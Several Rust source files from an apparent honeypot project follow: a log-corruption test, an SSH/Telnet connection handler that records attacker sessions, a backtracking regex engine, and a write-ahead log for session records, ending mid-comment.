        "behavioural dip must not be flagged: {behavioural:?}"
    );
}

#[test]
fn corrupted_roundtrip_recovers_most_sessions_without_panic() {
    let ds = degraded();
    // A bounded slice keeps the log a few MB; corruption rate 1 % of lines.
    let subset = &ds.sessions[..ds.sessions.len().min(5_000)];
    let log = to_cowrie_log(subset);
    let mut rng = StdRng::seed_from_u64(0xdeadbeef);
    let corrupted: String = log
        .lines()
        .map(|line| {
            if !line.is_empty() && rng.random::<f64>() < 0.01 {
                let mut bytes = line.as_bytes().to_vec();
                let i = rng.random_range(0..bytes.len());
                bytes[i] = b'#';
                String::from_utf8_lossy(&bytes).into_owned() + "\n"
            } else {
                line.to_string() + "\n"
            }
        })
        .collect();

    let import = from_cowrie_log_lossy(&corrupted);
    assert!(
        !import.errors.is_empty(),
        "1 % corruption should break some lines"
    );
    assert!(
        import.sessions.len() as f64 >= subset.len() as f64 * 0.90,
        "recovered {} of {}",
        import.sessions.len(),
        subset.len()
    );
    for err in &import.errors {
        assert!(err.line >= 1 && err.line <= import.lines_total);
    }
}

#[test]
fn default_profile_has_exactly_the_maintenance_gap() {
    let ds = {
        static DS: OnceLock<Dataset> = OnceLock::new();
        DS.get_or_init(|| botnet::generate_dataset(&DriverConfig::test_scale(31)))
    };
    let cal = calendar(ds);
    assert_eq!(
        cal.dark_days(),
        vec![Date::new(2023, 10, 8), Date::new(2023, 10, 9)]
    );
    let mc = MonthlyCoverage::from_calendar(&cal, ds.fleet.len());
    assert_eq!(mc.gap_months(), vec![Month::new(2023, 10)]);
    // Fault-free collector: nothing retried, dropped, or quarantined.
    assert_eq!(ds.faults.ingest.retried, 0);
    assert_eq!(ds.faults.ingest.dropped, 0);
    assert_eq!(ds.faults.ingest.quarantined, 0);
}
