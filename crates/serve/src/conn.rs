//! One live connection: a non-blocking socket pumped through a sans-IO
//! protocol state machine, finishing as a [`SessionRecord`].
//!
//! A [`Conn`] never blocks: each [`Conn::pump`] call flushes whatever the
//! state machine has queued, reads whatever the socket has buffered, and
//! returns. A worker shard owns a set of `Conn`s and pumps them round-robin,
//! so hundreds of concurrent sessions multiplex onto a handful of threads.

use crate::{GatePermit, ServeStats};
use honeypot::shell::{RemoteStore, Shell};
use honeypot::{
    AuthPolicy, CommandRecord, LoginAttempt, Protocol, SessionEndReason, SessionRecord,
};
use hutil::DateTime;
use sshwire::{AuthOutcome, ServerHandler, SshServer};
use std::io::{Read, Write};
use std::net::TcpStream;
use std::sync::atomic::Ordering;
use std::sync::Arc;
use std::time::{Duration, Instant};
use telwire::{TelnetHandler, TelnetServer};

/// The download store shared by every connection of a server.
pub type SharedStore = Arc<dyn RemoteStore + Send + Sync>;

/// Bridges the honeypot policy and shell into both wire handler traits, so
/// the same type serves port 22 and port 23.
pub struct LiveHandler<'s> {
    policy: AuthPolicy,
    shell: Shell<'s>,
    commands: Vec<CommandRecord>,
}

impl<'s> LiveHandler<'s> {
    /// New handler over a fresh shell.
    pub fn new(policy: AuthPolicy, store: &'s dyn RemoteStore) -> Self {
        Self {
            policy,
            shell: Shell::new(store),
            commands: Vec::new(),
        }
    }
}

impl ServerHandler for LiveHandler<'_> {
    fn auth(&mut self, username: &str, password: Option<&str>) -> AuthOutcome {
        match password {
            Some(pw) if self.policy.accept(username, pw) => AuthOutcome::Accept,
            // The `none` probe is always rejected, like Cowrie.
            _ => AuthOutcome::Reject,
        }
    }

    fn exec(&mut self, command: &str) -> (Vec<u8>, u32) {
        let outcome = self.shell.exec_line(command);
        self.commands.push(CommandRecord {
            input: command.to_string(),
            known: outcome.known,
        });
        let status = if outcome.known { 0 } else { 127 };
        (outcome.output.into_bytes(), status)
    }
}

impl TelnetHandler for LiveHandler<'_> {
    fn auth(&mut self, username: &str, password: &str) -> bool {
        self.policy.accept(username, password)
    }

    fn exec(&mut self, command: &str) -> String {
        let outcome = self.shell.exec_line(command);
        self.commands.push(CommandRecord {
            input: command.to_string(),
            known: outcome.known,
        });
        let mut out = outcome.output;
        if !out.is_empty() && !out.ends_with('\n') {
            out.push_str("\r\n");
        }
        out
    }
}

/// Protocol state machine behind a connection.
enum Machine<'s> {
    Ssh(SshServer<LiveHandler<'s>>),
    Telnet(TelnetServer<LiveHandler<'s>>),
}

/// Why [`Conn::pump`] declared the connection finished.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Ending {
    /// Clean close: client hung up or the dialogue completed.
    Client,
    /// Idle or total-session deadline expired.
    Timeout,
    /// Socket or protocol error (recorded as a client close).
    Error,
}

/// A live connection owned by one worker shard.
pub struct Conn<'s> {
    stream: TcpStream,
    machine: Machine<'s>,
    /// Bytes produced by the machine, not yet accepted by the socket.
    pending_out: Vec<u8>,
    /// Admission slot; dropping the connection — on any path, including
    /// a caught panic — releases it. Held purely for its `Drop`.
    _permit: GatePermit,
    client_ip: netsim::Ipv4Addr,
    client_port: u16,
    start_unix: i64,
    started: Instant,
    last_activity: Instant,
    ending: Option<Ending>,
}

/// Identity stamped into records; owned by each worker shard.
#[derive(Debug, Clone, Copy)]
pub struct SensorIdentity {
    /// Sensor id for the records.
    pub honeypot_id: u16,
    /// Sensor address for the records.
    pub honeypot_ip: netsim::Ipv4Addr,
}

impl<'s> Conn<'s> {
    /// Wraps an accepted SSH socket. The stream must already be
    /// non-blocking.
    pub fn ssh(
        stream: TcpStream,
        permit: GatePermit,
        client_port: u16,
        handler: LiveHandler<'s>,
        start_unix: i64,
        conn_seq: u64,
    ) -> Self {
        // Each connection gets a distinct cookie/nonce derived from its
        // sequence number; live serving needs uniqueness, not secrecy
        // (the honeypot's crypto is decorative by design).
        let mut cookie = [0u8; 16];
        cookie[..8].copy_from_slice(&conn_seq.to_le_bytes());
        cookie[8..].copy_from_slice(&(!conn_seq).to_le_bytes());
        let server = SshServer::new(
            handler,
            sshwire::SERVER_VERSION_DEFAULT,
            cookie,
            conn_seq.to_le_bytes().to_vec(),
        );
        Self::new(
            stream,
            Machine::Ssh(server),
            permit,
            client_port,
            start_unix,
        )
    }

    /// Wraps an accepted Telnet socket.
    pub fn telnet(
        stream: TcpStream,
        permit: GatePermit,
        client_port: u16,
        handler: LiveHandler<'s>,
        start_unix: i64,
    ) -> Self {
        let server = TelnetServer::new(handler, "svr04");
        Self::new(
            stream,
            Machine::Telnet(server),
            permit,
            client_port,
            start_unix,
        )
    }

    fn new(
        stream: TcpStream,
        machine: Machine<'s>,
        permit: GatePermit,
        client_port: u16,
        start_unix: i64,
    ) -> Self {
        let now = Instant::now();
        Self {
            stream,
            machine,
            pending_out: Vec::new(),
            client_ip: permit.ip(),
            _permit: permit,
            client_port,
            start_unix,
            started: now,
            last_activity: now,
            ending: None,
        }
    }

    fn machine_output(&mut self) -> usize {
        // One copy, straight into pending_out (which may be a pooled
        // buffer) — no intermediate Vec per pump round.
        match &mut self.machine {
            Machine::Ssh(s) => {
                let chunk = s.take_output();
                self.pending_out.extend_from_slice(&chunk);
                chunk.len()
            }
            Machine::Telnet(t) => {
                let chunk = t.take_output();
                self.pending_out.extend_from_slice(&chunk);
                chunk.len()
            }
        }
    }

    fn machine_input(&mut self, data: &[u8]) -> Result<(), ()> {
        match &mut self.machine {
            Machine::Ssh(s) => s.input(data).map_err(|_| ()),
            Machine::Telnet(t) => t.input(data).map_err(|_| ()),
        }
    }

    fn machine_closed(&self) -> bool {
        match &self.machine {
            Machine::Ssh(s) => s.is_closed(),
            Machine::Telnet(t) => t.is_closed(),
        }
    }

    /// One non-blocking service round: flush queued output, ingest
    /// available input, check deadlines. Returns `true` once the
    /// connection is finished and ready for [`Conn::finish`].
    pub fn pump(
        &mut self,
        now: Instant,
        idle_timeout: Duration,
        session_timeout: Duration,
        stats: &ServeStats,
    ) -> bool {
        let mut buf = [0u8; 4096];
        self.pump_buf(&mut buf, now, idle_timeout, session_timeout, stats)
    }

    /// [`Conn::pump`] with a caller-supplied read buffer, so a reactor
    /// shard can share one scratch buffer across all its connections
    /// instead of burning 4 KiB of stack (or a fresh allocation) per
    /// pump.
    pub(crate) fn pump_buf(
        &mut self,
        buf: &mut [u8],
        now: Instant,
        idle_timeout: Duration,
        session_timeout: Duration,
        stats: &ServeStats,
    ) -> bool {
        if self.ending.is_some() {
            return true;
        }
        // Loop until neither direction makes progress, so a whole
        // handshake round-trip completes in one pump when the bytes are
        // already buffered.
        loop {
            let mut progress = self.machine_output() > 0;

            // Writer half: drain pending_out into the socket.
            while !self.pending_out.is_empty() {
                match self.stream.write(&self.pending_out) {
                    Ok(0) => {
                        self.ending = Some(Ending::Error);
                        return true;
                    }
                    Ok(n) => {
                        self.pending_out.drain(..n);
                        stats.bytes_out.fetch_add(n as u64, Ordering::Relaxed);
                        self.last_activity = now;
                        progress = true;
                    }
                    Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => break,
                    Err(e) if e.kind() == std::io::ErrorKind::Interrupted => continue,
                    Err(_) => {
                        self.ending = Some(Ending::Error);
                        return true;
                    }
                }
            }

            // Reader half: feed whatever the socket has to the machine.
            match self.stream.read(&mut *buf) {
                Ok(0) => {
                    self.ending = Some(Ending::Client);
                    return true;
                }
                Ok(n) => {
                    stats.bytes_in.fetch_add(n as u64, Ordering::Relaxed);
                    self.last_activity = now;
                    progress = true;
                    if self.machine_input(&buf[..n]).is_err() {
                        stats.wire_errors.fetch_add(1, Ordering::Relaxed);
                        self.ending = Some(Ending::Error);
                        return true;
                    }
                }
                Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
                Err(e) if e.kind() == std::io::ErrorKind::Interrupted => {}
                Err(_) => {
                    self.ending = Some(Ending::Error);
                    return true;
                }
            }

            if !progress {
                break;
            }
        }

        if self.machine_closed() && self.pending_out.is_empty() {
            self.ending = Some(Ending::Client);
            return true;
        }
        if now.duration_since(self.started) >= session_timeout
            || now.duration_since(self.last_activity) >= idle_timeout
        {
            self.ending = Some(Ending::Timeout);
            return true;
        }
        false
    }

    /// Source address of this connection.
    pub fn client_ip(&self) -> netsim::Ipv4Addr {
        self.client_ip
    }

    /// Whether output is queued for the socket — the reactor arms write
    /// interest only while this is true.
    pub(crate) fn wants_write(&self) -> bool {
        !self.pending_out.is_empty()
    }

    /// The connection's next deadline: whichever of the idle and
    /// total-session timeouts comes first. The reactor's timer wheel
    /// re-checks this on fire, so activity pushes the deadline without
    /// rescheduling.
    pub(crate) fn deadline(&self, idle_timeout: Duration, session_timeout: Duration) -> Instant {
        let idle = self.last_activity + idle_timeout;
        let session = self.started + session_timeout;
        idle.min(session)
    }

    /// Donates a pooled buffer as the `pending_out` backing store.
    /// Call right after construction, before any pump.
    pub(crate) fn adopt_out_buffer(&mut self, mut buf: Vec<u8>) {
        debug_assert!(self.pending_out.is_empty());
        buf.clear();
        self.pending_out = buf;
    }

    /// Reclaims the `pending_out` backing store for the pool. The
    /// connection must be finished (or about to be dropped).
    pub(crate) fn reclaim_out_buffer(&mut self) -> Vec<u8> {
        std::mem::take(&mut self.pending_out)
    }

    /// Raw fd for poller registration.
    #[cfg(unix)]
    pub(crate) fn raw_fd(&self) -> i32 {
        use std::os::unix::io::AsRawFd;
        self.stream.as_raw_fd()
    }

    /// Force-closes an in-flight connection (drain timeout during
    /// shutdown); the session is recorded as timed out.
    pub fn abort(&mut self) {
        if self.ending.is_none() {
            self.ending = Some(Ending::Timeout);
        }
    }

    /// Converts the finished connection into a [`SessionRecord`],
    /// mirroring `honeypot::wire::run_wire_session`'s conversion.
    pub fn finish(self, sensor: SensorIdentity, stats: &ServeStats) -> SessionRecord {
        let ending = self.ending.unwrap_or(Ending::Client);
        let elapsed = self.started.elapsed().as_secs() as i64;
        let start = DateTime::from_unix(self.start_unix);
        let end = DateTime::from_unix(self.start_unix + elapsed.max(0));
        let end_reason = match ending {
            Ending::Timeout => {
                stats.timed_out.fetch_add(1, Ordering::Relaxed);
                SessionEndReason::Timeout
            }
            Ending::Client | Ending::Error => SessionEndReason::ClientClose,
        };
        let (protocol, client_version, logins, mut handler) = match self.machine {
            Machine::Ssh(server) => {
                let version = server.peer_version().map(str::to_string);
                let logins: Vec<LoginAttempt> = server
                    .auth_log()
                    .iter()
                    .map(|(user, pass, ok)| LoginAttempt {
                        username: user.clone(),
                        password: pass.clone().unwrap_or_default(),
                        success: *ok,
                    })
                    .collect();
                (Protocol::Ssh, version, logins, server.into_handler())
            }
            Machine::Telnet(server) => {
                let logins: Vec<LoginAttempt> = server
                    .auth_log()
                    .iter()
                    .map(|(user, pass, ok)| LoginAttempt {
                        username: user.clone(),
                        password: pass.clone(),
                        success: *ok,
                    })
                    .collect();
                (Protocol::Telnet, None, logins, server.into_handler())
            }
        };
        let (uris, file_events) = handler.shell.take_observations();
        stats.completed.fetch_add(1, Ordering::Relaxed);
        SessionRecord {
            session_id: 0, // the collector assigns dense ids
            honeypot_id: sensor.honeypot_id,
            honeypot_ip: sensor.honeypot_ip,
            client_ip: self.client_ip,
            client_port: self.client_port,
            protocol,
            start,
            end,
            end_reason,
            client_version,
            logins,
            commands: std::mem::take(&mut handler.commands),
            uris,
            file_events,
        }
    }

    /// Converts a connection whose pump *panicked* into a minimal failed
    /// session record. The protocol machine may be poisoned mid-update,
    /// so this touches only plain fields — no auth log, no shell
    /// observations — and does not count toward `completed`. Dropping
    /// `self` releases the admission permit.
    pub fn into_failed(self, sensor: SensorIdentity) -> SessionRecord {
        let elapsed = self.started.elapsed().as_secs() as i64;
        SessionRecord {
            session_id: 0, // the collector assigns dense ids
            honeypot_id: sensor.honeypot_id,
            honeypot_ip: sensor.honeypot_ip,
            client_ip: self.client_ip,
            client_port: self.client_port,
            protocol: match self.machine {
                Machine::Ssh(_) => Protocol::Ssh,
                Machine::Telnet(_) => Protocol::Telnet,
            },
            start: DateTime::from_unix(self.start_unix),
            end: DateTime::from_unix(self.start_unix + elapsed.max(0)),
            end_reason: SessionEndReason::ClientClose,
            client_version: None,
            logins: Vec::new(),
            commands: Vec::new(),
            uris: Vec::new(),
            file_events: Vec::new(),
        }
    }
}

/// Wall-clock seconds since the Unix epoch.
pub fn now_unix() -> i64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map(|d| d.as_secs() as i64)
        .unwrap_or(0)
}
