//! Backtracking virtual machine.
//!
//! Depth-first execution with an explicit backtrack stack: each frame
//! snapshots `(pc, pos, marks)`. Preferred `Split` branches are taken first,
//! which yields Python-style leftmost/earliest-alternative semantics when the
//! caller scans start positions left to right.

use crate::ast::is_word;
use crate::compile::{Inst, Program};

/// Executes `prog` anchored at `start`. Returns the end offset of a match;
/// budget exhaustion is `Err(())` so callers can decide how to surface it.
pub fn exec_checked(
    prog: &Program,
    haystack: &[u8],
    start: usize,
    step_limit: usize,
) -> Result<Option<usize>, ()> {
    let mut steps = step_limit;
    run(prog, haystack, start, &mut steps)
}

struct Frame {
    pc: usize,
    pos: usize,
    marks: Vec<usize>,
}

fn run(
    prog: &Program,
    haystack: &[u8],
    start: usize,
    steps: &mut usize,
) -> Result<Option<usize>, ()> {
    const NO_MARK: usize = usize::MAX;
    let mut stack: Vec<Frame> = Vec::new();
    let mut pc = 0usize;
    let mut pos = start;
    let mut marks = vec![NO_MARK; prog.marks];
    loop {
        if *steps == 0 {
            return Err(());
        }
        *steps -= 1;
        let mut failed = false;
        match &prog.insts[pc] {
            Inst::Match => return Ok(Some(pos)),
            Inst::Byte(b) => {
                if haystack.get(pos) == Some(b) {
                    pos += 1;
                    pc += 1;
                } else {
                    failed = true;
                }
            }
            Inst::Any => {
                if pos < haystack.len() && haystack[pos] != b'\n' {
                    pos += 1;
                    pc += 1;
                } else {
                    failed = true;
                }
            }
            Inst::Class { negated, items } => match haystack.get(pos) {
                Some(&b) if items.iter().any(|it| it.matches(b)) != *negated => {
                    pos += 1;
                    pc += 1;
                }
                _ => failed = true,
            },
            Inst::Split {
                preferred,
                alternate,
            } => {
                stack.push(Frame {
                    pc: *alternate,
                    pos,
                    marks: marks.clone(),
                });
                pc = *preferred;
            }
            Inst::Jump(t) => pc = *t,
            Inst::AssertStart => {
                if pos == 0 {
                    pc += 1;
                } else {
                    failed = true;
                }
            }
            Inst::AssertEnd => {
                if pos == haystack.len() {
                    pc += 1;
                } else {
                    failed = true;
                }
            }
            Inst::WordBoundary(positive) => {
                let before = pos > 0 && is_word(haystack[pos - 1]);
                let after = pos < haystack.len() && is_word(haystack[pos]);
                if (before != after) == *positive {
                    pc += 1;
                } else {
                    failed = true;
                }
            }
            Inst::SetMark(slot) => {
                marks[*slot] = pos;
                pc += 1;
            }
            Inst::JumpIfProgress { slot, target } => {
                if pos > marks[*slot] || marks[*slot] == NO_MARK {
                    pc = *target;
                } else {
                    pc += 1;
                }
            }
            Inst::Lookahead { positive, sub } => {
                let inner = run(&prog.subs[*sub], haystack, pos, steps)?;
                if inner.is_some() == *positive {
                    pc += 1;
                } else {
                    failed = true;
                }
            }
        }
        if failed {
            match stack.pop() {
                Some(f) => {
                    pc = f.pc;
                    pos = f.pos;
                    marks = f.marks;
                }
                None => return Ok(None),
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::compile::compile;
    use crate::parser::parse;

    fn anchored(pat: &str, s: &str) -> Option<usize> {
        let prog = compile(&parse(pat).unwrap());
        super::exec_checked(&prog, s.as_bytes(), 0, 100_000).unwrap()
    }

    #[test]
    fn greedy_consumes_longest() {
        assert_eq!(anchored("a*", "aaab"), Some(3));
        assert_eq!(anchored("a*?", "aaab"), Some(0));
    }

    #[test]
    fn backtracks_through_star() {
        assert_eq!(anchored("a*ab", "aaab"), Some(4));
    }

    #[test]
    fn empty_loop_terminates() {
        // `(a?)*` on "b" must terminate and match empty.
        assert_eq!(anchored("(a?)*", "b"), Some(0));
        assert_eq!(anchored("(a?)*b", "b"), Some(1));
        assert_eq!(anchored("(a*)*b", "aab"), Some(3));
    }

    #[test]
    fn alternation_prefers_first_branch() {
        assert_eq!(anchored("ab|a", "ab"), Some(2));
        assert_eq!(anchored("a|ab", "ab"), Some(1));
    }

    #[test]
    fn lookahead_is_zero_width() {
        assert_eq!(anchored("(?=abc)ab", "abc"), Some(2));
        assert_eq!(anchored("(?!abc)ab", "abd"), Some(2));
        assert_eq!(anchored("(?!abc)ab", "abc"), None);
    }

    #[test]
    fn marks_restored_on_backtrack() {
        // Backtracking into an earlier loop iteration must not see marks
        // from an abandoned later iteration.
        assert_eq!(anchored("(a|ab)*c", "ababc"), Some(5));
    }
}
