//! Write-ahead log: crash durability for the unsealed segment.
//!
//! [`crate::StoreWriter`] buffers up to `rows_per_segment` sessions in
//! memory before sealing them into a segment file, so without a WAL a
//! crash silently discards everything since the last seal. A writer
//! opened with a WAL appends every record here *before* it enters the
//! in-memory segment buffer; after a crash, [`replay`] returns the
//! longest valid prefix of those records so recovery can re-seal them
//! into a real segment.
//!
//! # Layout
//!
//! One `wal.hswal` file per store directory:
//!
//! ```text
//! +--------------------------------------------------------------+
//! | header  magic "HSWL" · version u16 · flags u16               |
//! |         · segment_index u64 · crc32(header)         (20 B)   |
//! +--------------------------------------------------------------+
//! | frame   len u32 · crc32(payload) u32 · payload               |
//! | frame   ...                                                  |
//! +--------------------------------------------------------------+
//! ```
//!
//! Each frame holds one self-contained [`SessionRecord`] (strings
//! inline, no dictionary — WAL frames must be independently decodable
//! because any suffix of the file can be torn off by a crash). The
//! header's `segment_index` records which segment the frames belong to;
//! recovery uses it to discard a WAL made stale by a crash that landed
//! *between* sealing that segment and truncating the log.
//!
//! # Torn writes
//!
//! A crash can leave a partial frame at the tail (or, on pathological
//! storage, flip bits anywhere). [`replay`] walks frames until the
//! first one whose length overruns the file or whose CRC mismatches,
//! and cleanly reports everything before it as recovered and the rest
//! as lost bytes — never a panic, never a garbage row.

use crate::segment::{
    put_i64, put_u16, put_u32, put_u64, sync_dir, Cursor, OP_CREATED, OP_DELETED,
    OP_DOWNLOAD_FAILED, OP_EXEC_HASH, OP_EXEC_MISSING, OP_MODIFIED,
};
use crate::{SessionDbError, WAL_MAGIC, WAL_VERSION};
use honeypot::{
    CommandRecord, FileEvent, FileOp, LoginAttempt, Protocol, SessionEndReason, SessionRecord,
};
use hutil::{crc32, DateTime};
use netsim::Ipv4Addr;
use std::io::{Seek, SeekFrom, Write};
use std::path::{Path, PathBuf};

/// Byte length of the fixed WAL header.
pub const WAL_HEADER_LEN: usize = 20;

/// How often the WAL forces its appended frames to stable storage.
///
/// The policy bounds what a *power loss* can take: with `EveryN(n)`, at
/// most the last `n - 1` acknowledged sessions plus the one in flight.
/// A plain process kill (SIGKILL, OOM) loses nothing regardless of
/// policy — written bytes survive in the page cache.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FsyncPolicy {
    /// Never fsync; the OS flushes when it pleases.
    Never,
    /// Fsync after every `n`-th appended record (`EveryN(1)` = every
    /// record). The contained value is never 0.
    EveryN(u32),
}

impl FsyncPolicy {
    /// Policy from a CLI-style count: 0 means never, `n` means every
    /// `n` records.
    pub fn every(n: u32) -> Self {
        if n == 0 {
            FsyncPolicy::Never
        } else {
            FsyncPolicy::EveryN(n)
        }
    }
}

impl Default for FsyncPolicy {
    fn default() -> Self {
        FsyncPolicy::EveryN(1)
    }
}

fn header_bytes(segment_index: u64) -> [u8; WAL_HEADER_LEN] {
    let mut h = Vec::with_capacity(WAL_HEADER_LEN);
    h.extend_from_slice(&WAL_MAGIC);
    put_u16(&mut h, WAL_VERSION);
    put_u16(&mut h, 0); // flags
    put_u64(&mut h, segment_index);
    let crc = crc32(&h);
    put_u32(&mut h, crc);
    h.try_into().expect("fixed header length")
}

// --- record codec --------------------------------------------------------

fn put_str(out: &mut Vec<u8>, s: &str) {
    put_u32(out, s.len() as u32);
    out.extend_from_slice(s.as_bytes());
}

fn put_opt_str(out: &mut Vec<u8>, s: Option<&str>) {
    match s {
        None => out.push(0),
        Some(s) => {
            out.push(1);
            put_str(out, s);
        }
    }
}

/// Serializes one record as a self-contained WAL payload.
pub(crate) fn encode_record(rec: &SessionRecord) -> Vec<u8> {
    let mut out = Vec::with_capacity(128);
    put_u64(&mut out, rec.session_id);
    put_u16(&mut out, rec.honeypot_id);
    put_u32(&mut out, rec.honeypot_ip.0);
    put_u32(&mut out, rec.client_ip.0);
    put_u16(&mut out, rec.client_port);
    out.push(match rec.protocol {
        Protocol::Ssh => 0,
        Protocol::Telnet => 1,
    });
    put_i64(&mut out, rec.start.unix());
    put_i64(&mut out, rec.end.unix());
    out.push(match rec.end_reason {
        SessionEndReason::ClientClose => 0,
        SessionEndReason::Timeout => 1,
    });
    put_opt_str(&mut out, rec.client_version.as_deref());

    put_u32(&mut out, rec.logins.len() as u32);
    for l in &rec.logins {
        put_str(&mut out, &l.username);
        put_str(&mut out, &l.password);
        out.push(u8::from(l.success));
    }
    put_u32(&mut out, rec.commands.len() as u32);
    for c in &rec.commands {
        put_str(&mut out, &c.input);
        out.push(u8::from(c.known));
    }
    put_u32(&mut out, rec.uris.len() as u32);
    for u in &rec.uris {
        put_str(&mut out, u);
    }
    put_u32(&mut out, rec.file_events.len() as u32);
    for e in &rec.file_events {
        put_str(&mut out, &e.path);
        let (tag, hash) = match &e.op {
            FileOp::Created { sha256 } => (OP_CREATED, Some(sha256.as_str())),
            FileOp::Modified { sha256 } => (OP_MODIFIED, Some(sha256.as_str())),
            FileOp::Deleted => (OP_DELETED, None),
            FileOp::ExecAttempt { sha256: Some(h) } => (OP_EXEC_HASH, Some(h.as_str())),
            FileOp::ExecAttempt { sha256: None } => (OP_EXEC_MISSING, None),
            FileOp::DownloadFailed => (OP_DOWNLOAD_FAILED, None),
        };
        out.push(tag);
        if let Some(h) = hash {
            put_str(&mut out, h);
        }
        put_opt_str(&mut out, e.source_uri.as_deref());
    }
    out
}

fn take_str(c: &mut Cursor<'_>) -> Result<String, String> {
    let len = c.u32()? as usize;
    let bytes = c.take(len)?;
    std::str::from_utf8(bytes)
        .map(str::to_string)
        .map_err(|e| format!("string is not UTF-8: {e}"))
}

fn take_opt_str(c: &mut Cursor<'_>) -> Result<Option<String>, String> {
    match c.take(1)?[0] {
        0 => Ok(None),
        1 => take_str(c).map(Some),
        t => Err(format!("bad option tag {t}")),
    }
}

/// Inverse of [`encode_record`].
pub(crate) fn decode_record(payload: &[u8]) -> Result<SessionRecord, String> {
    let mut c = Cursor::new(payload);
    let session_id = c.u64()?;
    let honeypot_id = c.u16()?;
    let honeypot_ip = Ipv4Addr(c.u32()?);
    let client_ip = Ipv4Addr(c.u32()?);
    let client_port = c.u16()?;
    let protocol = match c.take(1)?[0] {
        0 => Protocol::Ssh,
        1 => Protocol::Telnet,
        t => return Err(format!("unknown protocol tag {t}")),
    };
    let start = DateTime::from_unix(c.i64()?);
    let end = DateTime::from_unix(c.i64()?);
    let end_reason = match c.take(1)?[0] {
        0 => SessionEndReason::ClientClose,
        1 => SessionEndReason::Timeout,
        t => return Err(format!("unknown end-reason tag {t}")),
    };
    let client_version = take_opt_str(&mut c)?;

    let n = c.u32()? as usize;
    let mut logins = Vec::with_capacity(n.min(payload.len() / 8));
    for _ in 0..n {
        logins.push(LoginAttempt {
            username: take_str(&mut c)?,
            password: take_str(&mut c)?,
            success: c.take(1)?[0] != 0,
        });
    }
    let n = c.u32()? as usize;
    let mut commands = Vec::with_capacity(n.min(payload.len() / 8));
    for _ in 0..n {
        commands.push(CommandRecord {
            input: take_str(&mut c)?,
            known: c.take(1)?[0] != 0,
        });
    }
    let n = c.u32()? as usize;
    let mut uris = Vec::with_capacity(n.min(payload.len() / 8));
    for _ in 0..n {
        uris.push(take_str(&mut c)?);
    }
    let n = c.u32()? as usize;
    let mut file_events = Vec::with_capacity(n.min(payload.len() / 8));
    for _ in 0..n {
        let path = take_str(&mut c)?;
        let op = match c.take(1)?[0] {
            OP_CREATED => FileOp::Created {
                sha256: take_str(&mut c)?,
            },
            OP_MODIFIED => FileOp::Modified {
                sha256: take_str(&mut c)?,
            },
            OP_DELETED => FileOp::Deleted,
            OP_EXEC_HASH => FileOp::ExecAttempt {
                sha256: Some(take_str(&mut c)?),
            },
            OP_EXEC_MISSING => FileOp::ExecAttempt { sha256: None },
            OP_DOWNLOAD_FAILED => FileOp::DownloadFailed,
            t => return Err(format!("unknown file-op tag {t}")),
        };
        let source_uri = take_opt_str(&mut c)?;
        file_events.push(FileEvent {
            path,
            op,
            source_uri,
        });
    }
    if !c.done() {
        return Err("trailing bytes after WAL record".to_string());
    }
    Ok(SessionRecord {
        session_id,
        honeypot_id,
        honeypot_ip,
        client_ip,
        client_port,
        protocol,
        start,
        end,
        end_reason,
        client_version,
        logins,
        commands,
        uris,
        file_events,
    })
}

// --- writer --------------------------------------------------------------

/// Append-side of the log. One lives inside every [`crate::StoreWriter`]
/// opened with a WAL-enabled [`crate::StoreOptions`].
pub struct WalWriter {
    path: PathBuf,
    file: std::fs::File,
    policy: FsyncPolicy,
    unsynced: u32,
}

impl WalWriter {
    /// Creates (truncating) the log at `path`, covering the unsealed
    /// segment `segment_index`. The header is written and synced
    /// immediately so the file itself survives a crash.
    pub fn create(
        path: impl Into<PathBuf>,
        policy: FsyncPolicy,
        segment_index: u64,
    ) -> Result<Self, SessionDbError> {
        let path = path.into();
        let mut file = std::fs::File::create(&path).map_err(|e| SessionDbError::io(&path, e))?;
        file.write_all(&header_bytes(segment_index))
            .map_err(|e| SessionDbError::io(&path, e))?;
        file.sync_all().map_err(|e| SessionDbError::io(&path, e))?;
        if let Some(dir) = path.parent() {
            sync_dir(dir)?;
        }
        Ok(Self {
            path,
            file,
            policy,
            unsynced: 0,
        })
    }

    /// Appends one record frame, fsyncing per the configured policy.
    pub fn append(&mut self, rec: &SessionRecord) -> Result<(), SessionDbError> {
        let payload = encode_record(rec);
        let mut frame = Vec::with_capacity(payload.len() + 8);
        put_u32(&mut frame, payload.len() as u32);
        put_u32(&mut frame, crc32(&payload));
        frame.extend_from_slice(&payload);
        self.file
            .write_all(&frame)
            .map_err(|e| SessionDbError::io(&self.path, e))?;
        if let FsyncPolicy::EveryN(n) = self.policy {
            self.unsynced += 1;
            if self.unsynced >= n {
                self.sync()?;
            }
        }
        Ok(())
    }

    /// Forces appended frames to stable storage.
    pub fn sync(&mut self) -> Result<(), SessionDbError> {
        self.file
            .sync_data()
            .map_err(|e| SessionDbError::io(&self.path, e))?;
        self.unsynced = 0;
        Ok(())
    }

    /// Truncates the log back to a bare header covering `segment_index`.
    /// Called after a segment seals: the sealed file now owns those rows,
    /// so the log restarts for the next segment.
    pub fn reset(&mut self, segment_index: u64) -> Result<(), SessionDbError> {
        self.file
            .set_len(0)
            .map_err(|e| SessionDbError::io(&self.path, e))?;
        self.file
            .seek(SeekFrom::Start(0))
            .map_err(|e| SessionDbError::io(&self.path, e))?;
        self.file
            .write_all(&header_bytes(segment_index))
            .map_err(|e| SessionDbError::io(&self.path, e))?;
        self.file
            .sync_all()
            .map_err(|e| SessionDbError::io(&self.path, e))?;
        self.unsynced = 0;
        Ok(())
    }

    /// Deletes the log file — the writer is closing cleanly, so there is
    /// nothing left to recover.
    pub fn remove(self) -> Result<(), SessionDbError> {
        let path = self.path;
        drop(self.file);
        std::fs::remove_file(&path).map_err(|e| SessionDbError::io(&path, e))?;
        if let Some(dir) = path.parent() {
            sync_dir(dir)?;
        }
        Ok(())
    }
}

// --- replay --------------------------------------------------------------

/// What [`replay`] salvaged from a log file.
pub struct WalReplay {
    /// Unsealed segment index the log covers (from the header).
    pub segment_index: u64,
    /// Records in the longest valid frame prefix, in append order.
    pub rows: Vec<SessionRecord>,
    /// Bytes after the last valid frame (torn tail, corrupt frame, or
    /// trailing garbage) — lost, by design, rather than guessed at.
    pub bytes_lost: u64,
}

/// Reads the longest valid prefix of a WAL file.
///
/// Header damage is a typed error (there is nothing trustworthy to
